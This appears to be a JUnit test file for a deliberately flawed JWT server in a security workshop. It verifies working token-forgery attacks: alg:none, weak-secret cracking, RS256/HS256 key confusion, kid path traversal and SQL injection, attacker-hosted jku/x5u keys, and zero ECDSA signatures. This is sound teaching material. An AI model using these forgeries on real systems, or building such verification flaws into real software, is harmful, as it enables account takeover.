package workshop.simulator.legacy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.util.Base64;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import workshop.simulator.MutableClock;
import workshop.simulator.SimulatedServer;

/** Each flaw of the legacy server works as documented, and only on its own step. */
class LegacyJwtServerTest {

    static final MutableClock clock = MutableClock.atWorkshopStart();
    static final HttpClient http = HttpClient.newHttpClient();
    static final ObjectMapper json = new ObjectMapper();
    static SimulatedServer server;
    static LegacyJwtServer legacy;
    static AttackerServer attacker;

    @BeforeAll
    static void start() {
        server = LegacyJwtServer.start(clock);
        legacy = LegacyJwtServer.of(server);
        attacker = AttackerServer.start(clock);
    }

    @AfterAll
    static void stop() {
        server.close();
        attacker.close();
    }

    static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    static String b64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    static String login(String step) throws Exception {
        var response = http.send(HttpRequest.newBuilder(server.uri("/" + step + "/login"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString("username=alice&password=wonderland")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return (String) json.readValue(response.body(), Map.class).get("token");
    }

    static HttpResponse<String> admin(String step, String token) throws Exception {
        return http.send(HttpRequest.newBuilder(server.uri("/" + step + "/admin")).header("Authorization", "Bearer " + token)
                .GET().build(), HttpResponse.BodyHandlers.ofString());
    }

    static String adminPayload(String token) {
        String payload = new String(Base64.getUrlDecoder().decode(token.split("\\.")[1]), StandardCharsets.UTF_8);
        return b64(payload.replace("\"role\":\"user\"", "\"role\":\"admin\""));
    }

    static String hs256(byte[] key, String header, String payloadPart) throws Exception {
        String input = b64(header) + "." + payloadPart;
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key, "HmacSHA256"));
        return input + "." + b64(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
    }

    @Test
    void everyStepGivesUsersTheirTokenAndRefusesThemTheAdminPage() throws Exception {
        for (String step : new String[] {"a1", "a2", "a3", "a4", "a5", "a6", "a7", "a8-file", "a8-sql", "a9"}) {
            var response = admin(step, login(step));
            assertThat(response.statusCode()).as(step + " " + response.body()).isEqualTo(403);
            assertThat(response.headers().firstValue("X-Attack-Demo")).as("labelled").isPresent();
        }
        assertThat(admin("a3", "x.y.z").statusCode()).isEqualTo(401);
    }

    @Test
    void eachFlawWorksAsDocumented() throws Exception {
        String a1 = login("a1");
        String forged = a1.split("\\.")[0] + "." + adminPayload(a1) + "." + a1.split("\\.")[2];
        assertThat(admin("a1", forged).body()).contains(legacy.adminData());
        assertThat(admin("a3", forged.replace(".", ".")).statusCode()).isEqualTo(401);

        String a2 = login("a2");
        assertThat(admin("a2", b64("{\"alg\":\"nOnE\"}") + "." + adminPayload(a2) + ".").statusCode()).isEqualTo(200);
        assertThat(admin("a2", a2.split("\\.")[0] + "." + adminPayload(a2) + ".").statusCode()).isEqualTo(200);

        String a3 = login("a3");
        assertThat(WordList.words()).contains(legacy.weakSecret()).hasSizeBetween(2000, 10000);
        assertThat(admin("a3", hs256(legacy.weakSecret().getBytes(StandardCharsets.UTF_8), "{\"alg\":\"HS256\"}",
                adminPayload(a3))).statusCode()).isEqualTo(200);

        String pem = http.send(HttpRequest.newBuilder(server.uri("/a4/public.pem")).build(), HttpResponse.BodyHandlers.ofString()).body();
        assertThat(pem).isEqualTo(Pem.publicKey(legacy.publicKey("a4"))).startsWith("-----BEGIN PUBLIC KEY-----\n");
        assertThat(admin("a4", hs256(pem.getBytes(StandardCharsets.US_ASCII), "{\"alg\":\"HS256\"}", adminPayload(login("a4"))))
                .statusCode()).isEqualTo(200);
        assertThat(((RSAPublicKey) legacy.publicKey("a5")).getPublicExponent()).isEqualTo(BigInteger.valueOf(3));

        String welcome = http.send(HttpRequest.newBuilder(server.uri("/a8-file/public/welcome.txt")).build(),
                HttpResponse.BodyHandlers.ofString()).body();
        assertThat(admin("a8-file", hs256(welcome.getBytes(StandardCharsets.UTF_8),
                "{\"alg\":\"HS256\",\"kid\":\"../public/welcome.txt\"}", adminPayload(login("a8-file")))).statusCode()).isEqualTo(200);
        assertThat(admin("a8-sql", hs256("pwned".getBytes(StandardCharsets.UTF_8),
                "{\"alg\":\"HS256\",\"kid\":\"x' UNION SELECT 'pwned' --\"}", adminPayload(login("a8-sql")))).statusCode()).isEqualTo(200);

        String a9 = login("a9");
        assertThat(admin("a9", a9.split("\\.")[0] + "." + adminPayload(a9) + "." + b64(new byte[64])).body())
                .contains(legacy.adminData());
    }

    @Test
    void embeddedAndLinkedKeysAreTrusted() throws Exception {
        var generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        var mine = generator.generateKeyPair();
        RSAPublicKey pub = (RSAPublicKey) mine.getPublic();
        String jwk = "{\"kty\":\"RSA\",\"kid\":\"mine\",\"n\":\"" + b64(unsigned(pub.getModulus())) + "\",\"e\":\""
                + b64(unsigned(pub.getPublicExponent())) + "\"}";
        for (String[] c : new String[][] {{"a6", "{\"alg\":\"RS256\",\"jwk\":" + jwk + "}"},
                {"a7", "{\"alg\":\"RS256\",\"kid\":\"mine\",\"jku\":\"" + attacker.publish("/jwks.json", "application/json",
                        "{\"keys\":[" + jwk + "]}") + "\"}"}}) {
            String input = b64(c[1]) + "." + adminPayload(login(c[0]));
            Signature signature = Signature.getInstance("SHA256withRSA");
            signature.initSign(mine.getPrivate());
            signature.update(input.getBytes(StandardCharsets.US_ASCII));
            assertThat(admin(c[0], input + "." + b64(signature.sign())).statusCode()).as(c[0]).isEqualTo(200);
        }
        assertThat(attacker.requests()).containsExactly("GET /jwks.json");
        assertThat(legacy.jkuFetches()).isEqualTo(1);
    }

    @Test
    void aSelfSignedCertificateAtX5uIsTrusted() throws Exception {
        Path store = Files.createTempFile("legacy-x5u-", ".p12");
        Files.delete(store);
        Process keytool = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "keytool").toString(),
                "-genkeypair", "-alias", "a", "-keyalg", "RSA", "-keysize", "2048", "-dname", "CN=attacker",
                "-storetype", "PKCS12", "-keystore", store.toString(), "-storepass", "changeit", "-noprompt")
                .redirectErrorStream(true).start();
        keytool.getInputStream().readAllBytes();
        assertThat(keytool.waitFor()).isZero();
        KeyStore keys = KeyStore.getInstance("PKCS12");
        try (var in = Files.newInputStream(store)) {
            keys.load(in, "changeit".toCharArray());
        }
        Files.delete(store);
        String pem = "-----BEGIN CERTIFICATE-----\n" + Base64.getMimeEncoder(64, new byte[] {'\n'})
                .encodeToString(keys.getCertificate("a").getEncoded()) + "\n-----END CERTIFICATE-----\n";
        URI where = attacker.publish("/cert.pem", "application/x-pem-file", pem);
        attacker.clearRequests();
        String input = b64("{\"alg\":\"RS256\",\"x5u\":\"" + where + "\"}") + "." + adminPayload(login("a7"));
        Signature signature = Signature.getInstance("SHA256withRSA");
        signature.initSign((PrivateKey) keys.getKey("a", "changeit".toCharArray()));
        signature.update(input.getBytes(StandardCharsets.US_ASCII));
        int before = legacy.x5uFetches();
        assertThat(admin("a7", input + "." + b64(signature.sign())).statusCode()).isEqualTo(200);
        assertThat(admin("a6", input + "." + b64(signature.sign())).statusCode()).as("only a7 follows x5u").isEqualTo(401);
        assertThat(attacker.requests()).containsExactly("GET /cert.pem");
        assertThat(legacy.x5uFetches()).isEqualTo(before + 1);
    }

    @Test
    void theFlawedEcdsaVerifierChecksRealSignaturesAndAcceptsZeros() throws Exception {
        var generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        var pair = generator.generateKeyPair();
        byte[] data = "hello".getBytes(StandardCharsets.US_ASCII);
        Signature signer = Signature.getInstance("SHA256withECDSAinP1363Format");
        signer.initSign(pair.getPrivate());
        signer.update(data);
        byte[] good = signer.sign();
        FlawedEcdsa flawed = new FlawedEcdsa((ECPublicKey) pair.getPublic());
        assertThat(flawed.verify(data, good)).isTrue();
        assertThat(flawed.verify("other".getBytes(StandardCharsets.US_ASCII), good)).isFalse();
        assertThat(flawed.verify(data, new byte[64])).as("CVE-2022-21449").isTrue();
        Signature jdk = Signature.getInstance("SHA256withECDSAinP1363Format");
        jdk.initVerify(pair.getPublic());
        jdk.update(data);
        assertThat(jdk.verify(new byte[64])).as("this JDK is fixed (17.0.3+)").isFalse();
        assertThat(MessageDigest.isEqual(good, good)).isTrue();
    }

    @Test
    void refreshTokensAreNeitherBoundNorRotated() throws Exception {
        var login = http.send(HttpRequest.newBuilder(server.uri("/a10/login")).header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString("username=alice&password=wonderland&client_id=workshop-cli")).build(),
                HttpResponse.BodyHandlers.ofString());
        String refresh = (String) json.readValue(login.body(), Map.class).get("refresh_token");
        for (String client : new String[] {"workshop-cli", "partner-app", "workshop-cli"}) {
            var answer = http.send(HttpRequest.newBuilder(server.uri("/a10/refresh")).header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString("refresh_token=" + refresh + "&client_id=" + client)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        }
    }

    @Test
    void answersOnlyLoopbackNames() throws Exception {
        assertThat(server.baseUri().getHost()).isEqualTo("127.0.0.1");
        try (var socket = new java.net.Socket("127.0.0.1", server.port())) {
            socket.getOutputStream().write(("GET /a1/admin HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            String statusLine = new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
            assertThat(statusLine).as("a foreign Host (DNS rebinding) is refused").isEqualTo("HTTP/1.1 403");
        }
        assertThat(http.send(HttpRequest.newBuilder(URI.create(server.baseUri() + "/__admin/mappings")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(404);
    }

    private static byte[] unsigned(BigInteger value) {
        byte[] bytes = value.toByteArray();
        return bytes[0] == 0 ? java.util.Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
    }
}
